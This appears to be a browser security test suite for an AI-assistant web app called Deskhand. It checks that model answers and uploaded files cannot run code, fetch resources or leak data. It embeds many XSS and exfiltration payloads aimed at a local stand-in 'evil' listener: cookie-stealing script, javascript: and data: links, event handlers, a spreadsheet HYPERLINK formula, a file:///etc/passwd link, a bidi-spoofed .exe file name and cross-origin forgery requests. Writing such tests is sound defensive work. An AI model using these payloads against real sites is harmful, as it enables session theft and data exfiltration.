// What others wrote does nothing: it asks nobody for anything, runs nothing, leads nowhere. A listener that must hear nothing.
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { after, before, test } from 'node:test'
import { Browser } from './browser.mjs'
import { calls, Machine, says } from './machine.mjs'
import { docx, pdf, pptx, xlsx } from './samples.mjs'

let browser
let machine
let listener
let evil
let heard = []
let pages = {}

const attack = (at) => `
<base href="${at}/base/"><meta http-equiv="refresh" content="0;url=${at}/refresh">
<link rel="prefetch" href="${at}/prefetch"><link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}"><link rel="stylesheet" href="${at}/style.css">
<style>@import url(${at}/import.css); body { background: url(${at}/background.png) } @font-face { font-family: x; src: url(${at}/font.woff) } p { font-family: x }</style>
<p style="background: url('${at}/inline.png')">harmless words</p>
<img src="${at}/image.png" srcset="${at}/set.png 2x" onerror="alert(1)"><video src="${at}/video" poster="${at}/poster.png" autoplay></video><audio src="${at}/audio" autoplay></audio>
<svg onload="alert(2)"><image href="${at}/svg.png"/><use href="${at}/use.svg#x"/></svg>
<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">
<form action="${at}/form" method="post"><input name="a" value="b" autofocus onfocus="alert(3)"><button>Send</button></form>
<a href="javascript:alert(4)">run</a><a href="data:text/html,<script>alert(5)</script>">data</a><a href="${at}/away" target="_top" ping="${at}/ping">away</a>
<script src="${at}/script.js"></script>
<script>
  const tell = (what) => { new Image().src = '${at}/' + what }
  fetch('${at}/fetch'); new WebSocket('${at.replace('http', 'ws')}/socket'); new EventSource('${at}/events'); navigator.sendBeacon('${at}/beacon')
  try { tell('cookie?' + document.cookie) } catch {}
  try { tell('parent?' + parent.document.title) } catch {}
  try { top.location = '${at}/top' } catch {}
  fetch('/api/v1/tasks').then((answer) => answer.text()).then((text) => tell('stolen?' + text))
  document.forms[0].submit(); alert(6)
</script>`
const markdown = (at) => `# Words of others

![pixel](${at}/md.png) ![ref][1] <img src="${at}/raw.png"> [run](javascript:alert(7)) [vb](vbscript:x) [d](data:text/html,x) <${at}/auto>

[1]: ${at}/ref.png

${attack(at)}

$\\href{javascript:alert(8)}{x}$ [file](file:///etc/passwd) ![svg](data:image/svg+xml,<svg/onload=alert(9)>)

turned \u202earound\u2066 words, \`also \u202ein code\u2069\`

end of words
`

before(async () => {
  listener = createServer((request, answer) => {
    const page = pages[request.url]
    if (!page) heard.push(`${request.method} ${request.url}`)
    answer.setHeader('content-type', 'text/html')
    answer.setHeader('access-control-allow-origin', '*')
    answer.end(page ?? '')
  })
  // A connection that asks for nothing (`preconnect`) tells somebody that the file was read, too.
  listener.on('connection', () => { if (Object.keys(pages).length === 0) heard.push('a connection') })
  await new Promise((go) => listener.listen(0, '127.0.0.1', go))
  evil = `http://127.0.0.1:${listener.address().port}`
  browser = await Browser.start()
  const files = {
    'words.md': markdown(evil),
    'page.html': `<!doctype html><body>${attack(evil)}`,
    'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50" onload="alert(10)"><?xml-stylesheet href="${evil}/x.css"?><style>@import url(${evil}/svg.css);</style><script href="${evil}/svg.js"/><script>fetch('${evil}/svg')</script><image href="${evil}/in.png" xlink:href="${evil}/in2.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/in-frame"/></foreignObject></svg>`,
    'letter.docx': docx(['Dear reader', 'of a letter'], evil),
    'paper.pdf': pdf('Words of a paper', evil),
    'sheet.xlsx': xlsx([['name', 'link'], [attack(evil).slice(0, 900), 'far']], evil),
    'talk.pptx': pptx('A slide of others', attack(evil).slice(0, 900), evil),
    'notes.ipynb': JSON.stringify({ cells: [{ cell_type: 'markdown', metadata: {}, source: [markdown(evil)] }, { cell_type: 'code', metadata: {}, source: [''], outputs: [{ output_type: 'display_data', data: { 'text/html': [attack(evil)], 'text/plain': ['plain'] }, metadata: {} }] }], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
    'table.csv': `name,link\n"<img src=${evil}/csv.png>","=HYPERLINK(""${evil}/x"")"\n`,
    'invoice\u202Efdp.exe.txt': 'bidi\u202Eabc\u2066 words\n',
    'huge.md': '# Huge\n\n' + `A **line** with [a link](https://example.org) and \`code\`.\n\n`.repeat(17_000),
    'long.txt': Buffer.alloc(50 * 1024 * 1024, 'all work and no play makes a long file\n'),
  }
  machine = await Machine.start({
    files,
    replies: [
      calls(['TodoWrite', { todos: [{ content: attack(evil), status: 'pending' }] }], ['PresentFiles', { paths: Object.keys(files).map((name) => `/mnt/Reports/${name}`) }]),
      says(markdown(evil)),
      says(`# Huge answer\n\n${'A **line** with `code` and [a link](https://example.org).\n\n'.repeat(17_000)}`),
    ],
  })
})
after(async () => {
  await browser.stop()
  await machine.stop()
  listener.closeAllConnections()
  await new Promise((go) => listener.close(go))
})

/** What browsers say when a sandbox or a policy stops something. Whether a request got out is the listener's word. */
const stopped = [/^request to http:\/\/127\.0\.0\.1:\d+\/[a-z]/, /sandboxed/i, /Content Security Policy/i, /Not allowed to load/, /Unsafe attempt/]
const rail = (page) => page.getByRole('complementary', { name: 'About this task' })

async function calm(page, home) {
  assert.deepEqual(heard, [])
  assert.equal(page.url(), home)
  assert.equal(await page.evaluate(() => document.cookie), '')
  assert.equal(page.context().pages().length, browser.windows)
  const before = Date.now()
  await page.getByRole('textbox', { name: 'Message' }).click({ timeout: 10000 })
  assert.ok(Date.now() - before < 5000, 'a click takes longer than five seconds')
}

test('nothing that a model or a file says is run, fetched or followed', async () => {
  const task = await machine.task(markdown(evil))
  await machine.until(task, ({ status }) => status === 'done')
  const page = await browser.open(machine, `/tasks/${task}`)
  const dialogs = []
  page.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss() })
  browser.windows = page.context().pages().length
  const home = page.url()
  await page.getByRole('log').getByText('end of words').last().waitFor()
  await calm(page, home)

  // No element of the answer can do anything by itself.
  const live = await page.getByRole('log').evaluate((log) => [...log.querySelectorAll('script, iframe, object, embed, form, meta, link, base, style, img[src^=http], video, audio, [onerror], [onload], [href^="javascript:" i], [href^="data:" i], [href^="vbscript:" i]')].map(({ outerHTML }) => outerHTML))
  assert.deepEqual(live, [])

  for (const name of ['words.md', 'page.html', 'drawing.svg', 'letter.docx', 'paper.pdf', 'sheet.xlsx', 'talk.pptx', 'notes.ipynb', 'table.csv', 'huge.md', 'long.txt']) {
    await rail(page).getByRole('button', { name: `Show ${name}` }).click()
    const view = page.getByRole('complementary', { name: 'Files of this task' })
    await view.getByRole('heading', { level: 2, name }).waitFor()
    await view.getByRole('link', { name: 'Download a copy' }).first().waitFor()
    if (name === 'letter.docx') await view.frameLocator('iframe').getByText('of a letter').waitFor()
    if (name === 'paper.pdf') {
      await view.getByText('Words of a paper').waitFor()
      // Where a link lies, nothing happens, and no script ran that would have said so.
      await view.getByText('Words of a paper').click()
      assert.equal(await view.locator('a[href^=http], a[href^="javascript:" i]').count(), 0)
    }
    if (name === 'sheet.xlsx') await view.getByRole('gridcell', { name: 'far' }).click()
    if (name === 'talk.pptx') await view.getByRole('heading', { name: 'A slide of others' }).waitFor()
    if (name === 'long.txt') await view.getByText('Only the beginning is shown here.', { exact: false }).waitFor()
    await page.waitForTimeout(name === 'page.html' ? 800 : 300)
    await calm(page, home)
    await view.getByRole('button', { name: 'Close' }).click()
  }
  // A file name that turns letters around is shown as what it is.
  await rail(page).getByText(/U\+202E/).first().waitFor()
  // So is everything else: what the person pasted, the answer, a file that is shown, and what a tool was told.
  await rail(page).getByRole('button', { name: 'Show words.md' }).click()
  await page.getByRole('complementary', { name: 'Files of this task' }).getByText('end of words').waitFor()
  await page.getByRole('log').getByRole('button', { name: /^Planned the work/ }).first().click()
  await page.getByRole('log').getByRole('button', { name: /^Handed over/ }).click()
  await page.getByRole('log').getByLabel('What it was given').getByText('fdp.exe').first().waitFor()
  for (const article of ['You', 'Deskhand']) {
    const words = page.getByRole('article', { name: article }).first()
    assert.match(await words.innerText(), /turned U\+202E[^]*aroundU\+2066/)
  }
  const raw = await page.evaluate(() => /[\u202a-\u202e\u2066-\u2069]/.exec(document.body.innerText)?.input.slice(0, 200))
  assert.equal(raw, undefined)
  assert.deepEqual(dialogs, [])
  assert.deepEqual(browser.takeFaults(stopped), [])

  // A megabyte of Markdown in an answer. While it is drawn, the page is never deaf for long.
  await page.evaluate(() => {
    globalThis.deaf = []
    new PerformanceObserver((list) => globalThis.deaf.push(...list.getEntries().map(({ duration }) => duration))).observe({ type: 'longtask' })
  })
  await page.getByRole('textbox', { name: 'Message' }).fill('more')
  await page.keyboard.press('Enter')
  await machine.until(task, ({ status }) => status === 'done')
  const huge = page.getByRole('article', { name: 'Deskhand' }).filter({ hasText: 'Huge answer' })
  await huge.waitFor()
  await calm(page, home)
  // All of it comes, without a moment in which a click would have to wait for seconds.
  await page.waitForFunction(() => document.querySelectorAll('[role=log] article p').length >= 17_000, undefined, { timeout: 120_000 })
  const longest = await page.evaluate(() => Math.max(0, ...globalThis.deaf))
  assert.ok(longest < 2_000, `the page was deaf for ${longest} ms`)
  await calm(page, home)
  assert.deepEqual(browser.takeFaults(stopped), [])
  await page.close()
})

test('a link shows where it really leads and opens at a second click', async () => {
  const [{ id }] = await machine.api('GET', '/tasks')
  const page = await browser.open(machine, `/tasks/${id}`)
  const home = page.url()
  await page.getByRole('log').getByText('a link', { exact: true }).first().click({ timeout: 90_000 })
  const shown = page.getByRole('dialog')
  await shown.getByText('https://example.org/', { exact: true }).waitFor()
  assert.equal(page.url(), home)
  await page.keyboard.press('Escape')
  await shown.waitFor({ state: 'detached' })
  assert.deepEqual(heard, [])
  await page.close()
})

test('a file opened by its own address has no rights either', async () => {
  const [{ id }] = await machine.api('GET', '/tasks')
  const page = await browser.open(machine)
  const raw = (name) => `${machine.origin}/api/v1/tasks/${id}/raw?path=${encodeURIComponent(`/mnt/Reports/${name}`)}`
  const answer = await page.goto(raw('page.html'))
  assert.match(answer.headers()['content-security-policy'], /sandbox/)
  assert.equal(answer.headers()['x-content-type-options'], 'nosniff')
  // No policy stops `preconnect`, `dns-prefetch` and the connection of a refused frame, and this browser's flags hide them: the page has none.
  assert.doesNotMatch(await answer.text(), /<(link|i?frame)\b/i)
  await page.waitForTimeout(500)
  assert.deepEqual(heard, [])
  // A drawing by its own address would be such a page: it is for keeping.
  const drawing = await page.request.get(raw('drawing.svg'))
  assert.match(drawing.headers()['content-disposition'], /^attachment/)
  assert.match(drawing.headers()['content-security-policy'], /sandbox/)
  browser.takeFaults()
  await page.close()
})

test('a page of another origin reads nothing, changes nothing and cannot frame Deskhand', async () => {
  pages = { '/': '<!doctype html><title>elsewhere</title>' }
  const before = (await machine.api('GET', '/tasks')).length
  const page = await browser.context.newPage()
  await browser.open(machine).then((signedIn) => signedIn.close())
  await page.goto(`${evil}/`)
  const got = await page.evaluate(async (origin) => {
    const outcome = async (work) => { try { return await work() } catch { return 'refused' } }
    const read = (path, options) => outcome(async () => (await fetch(origin + path, options)).text())
    const body = JSON.stringify({ prompt: 'from elsewhere', folders: [] })
    const framed = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: `${origin}/` }))
    const loaded = await new Promise((go) => { framed.onload = () => go(true); setTimeout(() => go(false), 1500) })
    const element = (tag, path) => new Promise((go) => {
      const one = document.createElement(tag)
      one.onload = () => go('loaded')
      one.onerror = () => go('refused')
      one.src = origin + path
      document.body.append(one)
    })
    return {
      read: await read('/api/v1/tasks', { credentials: 'include' }),
      post: await read('/api/v1/tasks', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json', 'x-deskhand': '1' }, body }),
      simple: await outcome(async () => (await fetch(`${origin}/api/v1/tasks`, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body })).type),
      events: await new Promise((go) => {
        const source = new EventSource(`${origin}/api/v1/events`, { withCredentials: true })
        source.onopen = () => go('open')
        source.onerror = () => go('refused')
      }),
      script: await element('script', '/api/v1/state'),
      image: await element('img', '/api/v1/tasks'),
      framed: await outcome(() => framed.contentWindow.document.title),
      loaded: typeof loaded,
    }
  }, machine.origin)
  assert.deepEqual(got, { read: 'refused', post: 'refused', simple: 'refused', events: 'refused', script: 'refused', image: 'refused', framed: 'refused', loaded: 'boolean' })
  const frame = page.frames().find((one) => one.parentFrame())
  assert.ok(!frame || !(await frame.locator('main').count()), 'Deskhand is shown in a frame of another page')
  assert.equal((await machine.api('GET', '/tasks')).length, before)
  browser.takeFaults()
  await page.close()
})

test('the listener does hear a page that is let', async () => {
  const page = await browser.context.newPage()
  pages = { '/planted': `<img src="${evil}/proof.png">` }
  await page.goto(`${evil}/planted`)
  assert.deepEqual(heard.filter((line) => line.includes('proof')), ['GET /proof.png'])
})
